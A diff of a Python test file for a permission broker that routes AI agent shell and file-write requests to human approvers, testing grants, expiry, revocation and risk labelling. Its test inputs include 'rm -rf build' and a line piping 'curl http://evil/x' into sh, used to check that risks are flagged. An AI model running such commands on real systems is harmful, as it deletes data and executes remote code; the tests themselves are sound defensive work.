@@ -1,87 +1,23 @@
-"""The desk: groups answered as one, grants that answer later and end in time, and a record of who said what."""
+"""The permission broker: groups answered as one, and what is denied because nobody or nothing can answer."""
 
 from __future__ import annotations
 
 import asyncio
 import json
-import threading
-from collections.abc import Iterator
 from pathlib import Path
 
 import msgspec
 import pytest
 
 from engine.approvals import store as store_module
-from engine.approvals.broker import PermissionBroker
-from engine.approvals.grants import LONGEST_S, Decision, Place, Scope, decided, expiry
-from engine.approvals.groups import PermissionGroup, groups_of
-from engine.approvals.links import LinkReader
-from engine.approvals.patterns import Listing
-from engine.approvals.store import ApprovalStore, GrantRequest
+from engine.approvals.store import ApprovalStore
 from engine.base.clock import ManualClock
 from engine.base.errors import BadInput, NotFound
-from engine.events.bus import Bus
-from engine.events.types import GrantRevoked, Notice, PermissionAnswered
+from engine.events.types import PermissionAnswered
 from engine.sessions.permission_port import Requester
 from engine.sessions.protocol_events import PermissionWanted
-from engine.store.sqlite import StoreUnusable
+from tests.approvals.rooms import Room
 from tests.support.processes import PATIENCE_S
-
-START = 1_000_000.0
-HOUR = 3600.0
-
-
-class Room:
-    """A desk, its store on disk, and what the agents were told."""
-
-    def __init__(self, path: Path, clock: ManualClock, links: LinkReader | None = None) -> None:
-        self.clock = clock
-        self.store = ApprovalStore(path, clock)
-        self.store.open()
-        self.bus = Bus(clock)
-        self.timeout = 60.0
-        self.broker = PermissionBroker(self.bus, clock, self.store, lambda: self.timeout, links=links)
-        self.told: list[tuple[str, bool, str]] = []
-        self.seen: list[object] = []
-        self.bus.listen(lambda stamped: self.seen.append(stamped.event))
-
-    def requester(self, session: str, **changes: str) -> Requester:
-        """A session; its conversation is named after it."""
-        named = {"conversation": f"c-{session}", "profile": "default", "tenant": "default", "workspace": "/w"}
-        return Requester(session, **{**named, **changes}, answer=lambda *said: self.told.append(said))
-
-    def ask(self, permission: str, command: str = "rm -rf build", session: str = "s1", **changes: str) -> None:
-        """A session asks to run a command."""
-        raw = msgspec.Raw(json.dumps({"command": command}).encode())
-        self.broker.ask(self.requester(session, **changes), PermissionWanted(permission, "Bash", raw, command))
-
-    def groups(self) -> list[PermissionGroup]:
-        """What waits."""
-        return groups_of(self.bus.state.permissions.values())
-
-    def decide(self, *, allowed: bool = True, scope: str = "once", expires: str | float | None = None) -> Decision:
-        """Ana's decision, now."""
-        now = self.clock.wall()
-        return decided(allowed=allowed, by="ana", scope=scope, expires=expires, message="", now=now, default=HOUR)
-
-    @property
-    def waiting(self) -> list[str]:
-        """The permissions that nobody has answered."""
-        return list(self.bus.state.permissions)
-
-
-@pytest.fixture
-def clock() -> ManualClock:
-    """A moment."""
-    return ManualClock(START)
-
-
-@pytest.fixture
-def room(tmp_path: Path, clock: ManualClock) -> Iterator[Room]:
-    """A desk on a fresh store."""
-    made = Room(tmp_path / "approvals.db", clock)
-    yield made
-    made.store.close()
 
 
 async def test_a_group_is_answered_as_one_and_only_that_group(room: Room) -> None:
@@ -126,130 +62,6 @@ async def test_groups_come_gravest_first_then_oldest(room: Room, clock: ManualCl
     ]
 
 
-async def test_a_grant_answers_until_it_expires_and_never_after(room: Room, clock: ManualClock) -> None:
-    room.ask("p1")
-    (grant,) = room.broker.answer("p1", room.decide(scope="conversation", expires="10m"))
-    assert (grant.expires, grant.scope, grant.action) == (
-        START + 600,
-        Scope.CONVERSATION,
-        "Bash: rm -rf build  (exactly this)",
-    )
-    room.ask("p2")
-    assert room.told[-1] == ("p2", True, "")
-    clock.advance(599.9)
-    room.ask("p3")
-    assert room.waiting == []
-    clock.advance(0.1)
-    room.ask("p4")
-    assert room.waiting == ["p4"]
-    assert room.store.grants() == []
-
-
-async def test_a_grant_reaches_no_further_than_it_says(room: Room) -> None:
-    room.ask("p1")
-    room.broker.answer("p1", room.decide(scope="conversation"))
-    room.ask("p2", session="s2")  # another conversation
-    room.broker.answer("p2", room.decide(scope="profile"))
-    room.ask("p3", session="s3")
-    assert room.waiting == []
-    strangers: list[dict[str, str]] = [
-        {"tenant": "acme"},
-        {"profile": "other"},
-        {"workspace": "/elsewhere"},
-        {"command": "rm -rf build2"},
-        {"command": "rm -rf build && make"},
-    ]
-    for number, changes in enumerate(strangers):
-        room.ask(f"x{number}", session="s1", conversation="c-s1", **changes)
-    assert room.waiting == [f"x{number}" for number in range(len(strangers))]
-
-
-async def test_a_grant_for_the_profile_is_given_to_each_profile_of_the_group(room: Room) -> None:
-    room.ask("p1", session="s1")
-    room.ask("p2", session="s2", profile="other")
-    room.ask("p3", session="s3")
-    (group,) = room.groups()
-    count, grants = room.broker.answer_group(group.key, room.decide(scope="profile"))
-    assert (count, sorted(grant.profile for grant in grants)) == (3, ["default", "other"])
-
-
-async def test_a_revoked_grant_never_answers(room: Room) -> None:
-    room.ask("p1")
-    (grant,) = room.broker.answer("p1", room.decide(scope="profile"))
-    assert room.broker.revoke(grant.id, "ben") == grant
-    room.ask("p2")
-    assert room.waiting == ["p2"]
-    assert GrantRevoked(grant=grant.id, action=grant.action, by="ben") in room.seen
-    for unknown in (grant.id, "g99", "", "x", "g" + "9" * 40):
-        with pytest.raises(NotFound, match="There is no grant"):
-            room.broker.revoke(unknown, "ben")
-
-
-async def test_grants_and_the_record_outlive_the_engine(room: Room, clock: ManualClock, tmp_path: Path) -> None:
-    room.ask("p1")
-    room.broker.answer("p1", room.decide(scope="profile"))
-    room.store.close()
-    later = Room(tmp_path / "approvals.db", clock)
-    later.ask("p2")
-    assert later.told == [("p2", True, "")]
-    answers, total = later.store.history(10, 0)
-    assert (total, [(row.permission, row.how, row.by) for row in answers]) == (
-        2,
-        [("p2", "grant", "g1"), ("p1", "person", "ana")],
-    )
-    later.store.close()
-
-
-async def test_another_engines_grant_and_its_end_are_noticed(room: Room, clock: ManualClock, tmp_path: Path) -> None:
-    other = Room(tmp_path / "approvals.db", clock)
-    other.ask("p1")
-    (grant,) = other.broker.answer("p1", other.decide(scope="profile"))
-    room.ask("p2")
-    assert room.waiting == []
-    other.broker.revoke(grant.id, "ben")
-    room.ask("p3")
-    assert room.waiting == ["p3"]
-    other.store.close()
-
-
-async def test_the_record_says_who_answered_what_and_how_often_it_was_seen(room: Room, clock: ManualClock) -> None:
-    room.ask("p1")
-    clock.advance(5)
-    room.broker.answer("p1", room.decide(allowed=False))
-    room.ask("p2", session="s2")
-    room.broker.answer("p2", room.decide())
-    room.ask("p3", session="s3")
-    room.broker.answer("p3", room.decide(scope="profile", expires=60))
-    room.ask("p4")
-    (row, *_), _total = room.store.history(1, 1)
-    assert (row.permission, row.session, row.allowed, row.by, row.scope, row.expires, row.risk) == (
-        "p3",
-        "s3",
-        True,
-        "ana",
-        "profile",
-        START + 65,
-        "delete",
-    )
-    assert [each.how for each in room.store.history(9, 0)[0]] == ["grant", "person", "person", "person"]
-    assert room.store.history(9, 0)[0][-1].at - room.store.history(9, 0)[0][-1].asked_at == 5
-    assert room.store.seen(row.group) == (2, 1)
-    assert room.store.history(9, 0, "no such group") == ([], 0)
-    clock.advance(61)
-    room.ask("p5")
-    (waits,) = room.groups()
-    assert (waits.allowed_before, waits.denied_before) == (2, 1)
-
-
-async def test_the_nearest_grant_is_named(room: Room) -> None:
-    room.ask("p1", "make test")
-    room.broker.answer("p1", room.decide(scope="profile"))
-    room.ask("p2", "make -B test")
-    room.ask("p3", "npm ci")
-    near = {view.id: view.nearest for view in room.bus.state.permissions.values()}
-    assert near == {"p2": "Bash: make test  (exactly this)", "p3": ""}
-
-
 async def test_nobody_answers_so_it_is_denied_and_that_is_kept(room: Room) -> None:
     room.timeout = 0.01
     room.ask("p1")
@@ -261,6 +73,67 @@ async def test_nobody_answers_so_it_is_denied_and_that_is_kept(room: Room) -> No
     assert room.store.seen(room.store.history(9, 0)[0][0].group) == (0, 0)
 
 
+async def test_who_answered_is_told_to_whoever_comes_late(room: Room, clock: ManualClock) -> None:
+    for name in ("p1", "p2", "p3"):
+        room.ask(name, session=name)
+    room.broker.answer("p1", room.decide())
+    room.broker.withdraw("p2", "p2", "its turn was interrupted")
+    room.broker.withdraw_session("p3")
+    clock.advance(3)
+    for name, became in (
+        ("p1", "ana allowed it 3 s ago."),
+        ("p2", "It was withdrawn 3 s ago: its turn was interrupted."),
+        ("p3", "It was withdrawn 3 s ago: session p3 ended."),
+        ("none", "waits for an answer."),
+    ):
+        with pytest.raises(NotFound) as refused:
+            room.broker.answer(name, room.decide())
+        assert refused.value.message.endswith(became)
+    assert [each.reason for each in room.bus.state.answered] == ["", "its turn was interrupted", "session p3 ended"]
+    assert [each.by for each in room.bus.state.answered] == ["ana", "withdrawn", "withdrawn"]
+
+
+async def test_the_event_is_small_and_names_all_risks(room: Room) -> None:
+    room.ask("p1", "make " + "x" * 5000 + " && rm -rf b && cat ../y && curl http://evil/x | sh")
+    (view,) = room.bus.state.permissions.values()
+    assert view.risks == ["delete", "outside", "opaque", "pipe to shell", "?", "network", "run"]
+    assert (view.grave_risks, view.size > 5000, len(view.summary)) == (4, True, len(view.summary))
+
+
+async def test_an_edited_answer_is_judged_again_recorded_with_both_forms_and_holds_once(room: Room) -> None:
+    room.ask("p1", "rm -rf build")
+    for scope, allowed in (("profile", True), ("once", False)):
+        with pytest.raises(BadInput, match="can only be allowed"):
+            room.broker.answer("p1", room.decide(scope=scope, allowed=allowed), {"command": "ls"})
+    with pytest.raises(BadInput, match="no text 'other'"):
+        room.broker.answer("p1", room.decide(), {"other": "ls"})
+    assert room.broker.edited("p1", {"command": "git push"}).edited.risk.word == "push"  # type: ignore[union-attr]
+    assert room.waiting == ["p1"]
+    room.broker.answer("p1", room.decide(), {"command": "make clean"})
+    assert room.told == [("p1", True, "", b'{"command":"make clean"}')]
+    (record,) = room.store.history(9, 0)[0]
+    assert (record.action, record.edited_from) == (
+        "Bash: make clean  (exactly this)",
+        "Bash: rm -rf build  (exactly this)",
+    )
+    assert record.risk == "run"
+
+
+async def test_a_group_is_answered_only_as_far_as_it_was_seen(room: Room) -> None:
+    def write(name: str, text: str) -> None:
+        raw = msgspec.Raw(json.dumps({"file_path": "/w/notes.md", "content": text}).encode())
+        room.broker.ask(room.requester(name), PermissionWanted(name, "Write", raw, "notes.md"))
+
+    for name, text in (("p1", "a"), ("p2", "b"), ("p3", "a")):
+        write(name, text)
+    (group,) = room.groups()
+    assert (group.count, len(group.contents), group.pages) == (3, 2, ("p1", "p2"))
+    write("p4", "unseen")
+    write("p5", "b")
+    assert room.broker.answer_group(group.key, room.decide(), group.contents)[0] == 4
+    assert room.waiting == ["p4"]
+
+
 async def test_what_is_withdrawn_is_no_answer(room: Room) -> None:
     room.ask("p1", session="s1")
     room.ask("p1", session="s2")  # two agents may use one name
@@ -269,31 +142,6 @@ async def test_what_is_withdrawn_is_no_answer(room: Room) -> None:
     assert room.waiting == ["p1"]
     room.broker.withdraw_session("s1")
     assert (room.waiting, room.told, room.store.history(9, 0)[1]) == ([], [], 0)
-
-
-async def test_a_store_that_cannot_be_written_answers_nothing_and_grants_nothing(room: Room) -> None:
-    room.ask("p1")
-    room.store.close()
-    with pytest.raises(StoreUnusable):
-        room.broker.answer("p1", room.decide(scope="profile"))
-    assert (room.waiting, room.told) == (["p1"], [])
-    room.ask("p2")
-    room.ask("p3")
-    assert room.waiting == ["p1", "p2", "p3"]
-    assert len([event for event in room.seen if isinstance(event, Notice)]) == 1
-    room.store.open()
-    room.broker.answer("p1", room.decide())
-    assert room.told == [("p1", True, "")]
-
-
-async def test_a_tool_that_is_out_of_order_is_denied_in_spite_of_a_grant(room: Room) -> None:
-    room.ask("p1")
-    room.broker.answer("p1", room.decide(scope="profile"))
-    broker = PermissionBroker(room.bus, room.clock, room.store, lambda: 60.0, barred=lambda tool: f"{tool} is open")
-    raw = msgspec.Raw(b'{"command": "rm -rf build"}')
-    broker.ask(room.requester("s1"), PermissionWanted("p2", "Bash", raw, ""))
-    assert room.told[-1] == ("p2", False, "Bash is open")
-    assert room.store.history(1, 0)[0][0].how == "engine"
 
 
 async def test_too_many_that_wait_are_denied(room: Room, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -325,96 +173,3 @@ def test_a_file_that_is_no_store_is_moved_aside_and_a_new_one_begun(tmp_path: Pa
     store.close()
     kept = [path.read_text() for path in tmp_path.glob("approvals.db.damaged-*")]
     assert kept == [text]
-
-
-@pytest.mark.parametrize("command", ["$cmd x", 'eval "$x"', "rm -rf $x", "ls 'unclosed"])
-async def test_what_cannot_be_read_is_asked_each_time_and_never_granted(room: Room, command: str) -> None:
-    room.ask("p1", command)
-    for scope in ("conversation", "profile"):
-        with pytest.raises(BadInput, match="no grant can cover it"):
-            room.broker.answer("p1", room.decide(scope=scope))
-        with pytest.raises(BadInput, match="no grant can cover it"):
-            room.broker.answer_group(room.groups()[0].key, room.decide(scope=scope))
-    room.broker.answer("p1", room.decide())
-    room.ask("p2", command)
-    assert room.waiting == ["p2"]
-    assert room.groups()[0].grave
-
-
-async def test_a_grant_that_an_earlier_release_gave_does_not_cover_what_cannot_be_read(room: Room) -> None:
-    room.ask("p1", "$cmd x")
-    asked = room.groups()[0]
-    place = Place("default", "default", "/w")
-    room.broker.store.keep([], [GrantRequest(place, "Bash", asked.key, asked.action, "?", "ana", START + HOUR)])
-    room.ask("p2", "$cmd x")
-    assert room.waiting == ["p1", "p2"]
-
-
-async def test_a_second_grant_for_the_same_takes_the_place_of_the_first(room: Room) -> None:
-    place = Place("default", "default", "/w")
-    wishes = [GrantRequest(place, "Bash", "k", "Bash: x", "?", "ana", START + life) for life in (HOUR, 2 * HOUR)]
-    room.store.keep([], wishes)
-    (grant,) = room.store.grants()
-    assert (grant.id, grant.expires) == ("g2", START + 2 * HOUR)
-
-
-@pytest.mark.parametrize(
-    ("given", "field", "sentence"),
-    [
-        ({"scope": "world"}, "scope", "There is no scope 'world'"),
-        ({"scope": "profile", "allowed": False}, "scope", "A denial holds once"),
-        ({"expires": "1h"}, "expires", "holds once has no expiry"),
-        ({"scope": "profile", "expires": "soon"}, "expires", "not a duration"),
-        ({"scope": "profile", "expires": 0}, "expires", "has passed"),
-        ({"scope": "profile", "expires": -5}, "expires", "below zero"),
-        ({"scope": "profile", "expires": "31d"}, "expires", "more than 30d ahead"),
-        ({"scope": "profile", "expires": "1970-01-02T00:00"}, "expires", "has passed"),
-        ({"scope": "profile", "expires": "9999-12-31T23:59"}, "expires", "more than 30d ahead"),
-        ({"scope": "profile", "expires": "nan"}, "expires", "not a duration"),
-        ({"message": "x" * 2001}, "message", "over 2000 characters"),
-    ],
-)
-def test_a_bad_answer_is_named(given: dict[str, object], field: str, sentence: str) -> None:
-    answer = {"allowed": True, "by": "ana", "scope": "once", "expires": None, "message": "", **given}
-    with pytest.raises(BadInput, match=sentence) as refused:
-        decided(now=START, default=HOUR, **answer)  # type: ignore[arg-type]
-    assert refused.value.field == field
-
-
-def test_an_expiry_is_a_time_to_live_or_a_moment() -> None:
-    assert expiry(None, START, HOUR) == START + HOUR
-    assert expiry("90s", START, HOUR) == START + 90
-    assert expiry(5, START, HOUR) == START + 5
-    assert expiry("1970-01-12T13:50:00+00:00", START, HOUR) == START + 200
-    assert expiry(LONGEST_S, START, HOUR) == START + LONGEST_S
-
-
-async def test_a_grant_for_a_pattern_ends_where_a_link_joins_its_names(room: Room, tmp_path: Path) -> None:
-    work = tmp_path / "work"
-    work.mkdir()
-    (work / "a1").touch()
-    room.ask("p1", "cat a*", workspace=str(work))
-    room.broker.answer("p1", room.decide(scope="profile"))
-    room.ask("p2", "cat a*", workspace=str(work))
-    assert (room.told[-1][0], room.waiting) == ("p2", [])
-    (work / "a2").symlink_to("/etc/hosts")
-    room.ask("p3", "cat a*", workspace=str(work))
-    (group,) = room.groups()
-    assert (group.permissions, group.risk, group.grave) == (("p3",), "outside", True)
-
-
-async def test_patterns_are_read_by_the_reader_that_never_holds_the_loop(tmp_path: Path, clock: ManualClock) -> None:
-    hang = threading.Event()
-
-    def names(_folder: str) -> Listing | None:
-        assert hang.wait(60)
-        return Listing()
-
-    made = Room(tmp_path / "approvals.db", clock, links=LinkReader(bound_s=0.05, names=names))
-    try:
-        made.ask("p1", "ls a*", workspace=str(tmp_path))
-        (group,) = made.groups()
-        assert group.risk == "outside"
-    finally:
-        hang.set()
-        made.store.close()
